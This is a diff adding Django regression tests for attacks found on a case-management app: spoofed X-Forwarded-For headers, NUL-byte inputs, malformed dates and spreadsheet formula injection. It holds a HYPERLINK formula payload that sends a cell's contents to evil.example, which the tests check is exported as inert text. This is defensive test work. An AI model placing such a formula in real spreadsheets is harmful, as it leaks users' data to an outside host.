@@ -1,0 +1,95 @@
+"""Regression tests for what an attacker and a fuzzer found (issue 14): each walks the attack and checks the 4xx and
+the data left as it was."""
+import csv
+import io
+
+import pytest
+from django.test import override_settings
+from openpyxl import load_workbook
+
+from cases.models import Case
+from core.clients import client_address
+from tests.cases.conftest import STATION_A, act, new_case
+
+pytestmark = pytest.mark.django_db
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点此")'
+
+
+def test_a_forged_forwarded_for_buys_no_extra_token_attempts(api):
+    statuses = [api.post("/api/v1/auth/token/", {"username": "nobody", "password": "guess"}, format="json",
+                         HTTP_X_FORWARDED_FOR=f"203.0.113.{n}").status_code for n in range(12)]
+    assert statuses[:10] == [400] * 10 and statuses[10:] == [429, 429]  # THROTTLE_AUTH 10/min per address
+
+
+def test_the_client_address_believes_only_the_proxies_we_run(rf):
+    request = rf.get("/", REMOTE_ADDR="10.0.0.5", HTTP_X_FORWARDED_FOR="198.51.100.7, 203.0.113.9")
+    assert client_address(request) == "10.0.0.5"
+    with override_settings(TRUSTED_PROXIES=1):
+        assert client_address(request) == "203.0.113.9"  # what our one proxy saw; the rest is the client's word
+    with override_settings(TRUSTED_PROXIES=3):
+        assert client_address(request) == "10.0.0.5"  # fewer hops than proxies: the header is not ours
+
+
+@pytest.mark.parametrize("url", [
+    "/open311/v2/requests.json?service_code=E0101%00",
+    "/public/track/?token=AB%00CD",
+    "/api/v1/cases/?q=%00",
+    "/orgs/public/?q=x%00",
+    "/public/grids/?street=1%00",
+])
+def test_a_nul_character_anywhere_is_a_400_naming_it(client, cast, url):
+    client.force_login(cast.commander)
+    response = client.get(url)
+    assert response.status_code == 400
+    if url.startswith(("/api/", "/open311/")):
+        assert list(response.json()) == [url.split("?")[1].split("=")[0]]
+
+
+def test_a_nul_character_in_a_form_post_changes_nothing(client, cast):
+    small_case = act(cast.dispatcher_a, new_case(cast.worker_a), "file")
+    client.force_login(cast.dispatcher_a)
+    response = client.post("/cases/bulk-dispatch/", {"to": f"d:{STATION_A}\x00", "case": small_case.number})
+    assert response.status_code == 400
+    assert Case.objects.get(pk=small_case.pk).status == "filed"
+
+
+@pytest.mark.parametrize("query", [
+    "start_date=2026-13-45T99:00:00", "end_date=2026-11-01T00:00:00%2B99:00", "start_date=nonsense"])
+def test_open311_impossible_dates_are_the_clients_error(client, query):
+    response = client.get(f"/open311/v2/requests.json?{query}")
+    assert response.status_code == 400 and "w3 date-time" in response.json()[0]["description"]
+
+
+def test_a_moment_with_an_offset_postgresql_refuses_is_read_in_utc(api_as, cast):
+    response = api_as(cast.commander).get("/api/v1/cases/", {"created_before": "1033-08-14T06:47:31.4-16:43"})
+    assert response.status_code == 200 and response.json()["results"] == []
+
+
+def test_a_report_of_an_organisation_that_is_not_a_number_is_404(client):
+    for value in ("abc", "²", "9" * 30):
+        assert client.get("/orgs/public/report/", {"organisation": value}).status_code == 404
+
+
+def test_exports_show_formulas_as_text(client, cast):
+    case = new_case(cast.worker_a, title=FORMULA)
+    client.force_login(cast.dispatcher_a)
+    rows = list(csv.reader(io.StringIO(client.get("/cases/export.csv?view=all").getvalue().decode("utf-8-sig"))))
+    assert next(row for row in rows if row[0] == case.number)[1] == "'" + FORMULA
+    book = load_workbook(io.BytesIO(client.get("/cases/export.xlsx?view=all").content))
+    cell = next(row[1] for row in book.active.iter_rows(min_row=2) if row[0].value == case.number)
+    assert (cell.value, cell.data_type) == (FORMULA, "s")  # stored as text: Excel shows it and runs nothing
+
+
+def test_a_step_that_takes_the_case_out_of_sight_answers_200_then_404(api_as, cast, client):
+    small_case = act(cast.dispatcher_a, new_case(cast.worker_a), "file")
+    act(cast.dispatcher_a, small_case, "dispatch", department=STATION_A)
+    url = f"/api/v1/cases/{small_case.number}/actions/return/"
+    response = api_as(cast.station_a).post(url, {"reason": "非本单位职责"}, format="json")
+    assert response.status_code == 200 and response.json()["status"] == "filed"
+    assert not {"accept", "feedback", "return"} & set(response.json()["actions"])
+    assert api_as(cast.station_a).post(url, {"reason": "重试"}, format="json").status_code == 404
+    assert Case.objects.get(pk=small_case.pk).return_count == 1
+    act(cast.dispatcher_a, Case.objects.get(pk=small_case.pk), "dispatch", department=STATION_A)
+    client.force_login(cast.station_a)
+    page = client.post(f"/cases/{small_case.number}/act/return/", {"return-reason": "仍非本单位职责"})
+    assert (page.status_code, page.url) == (302, "/cases/")
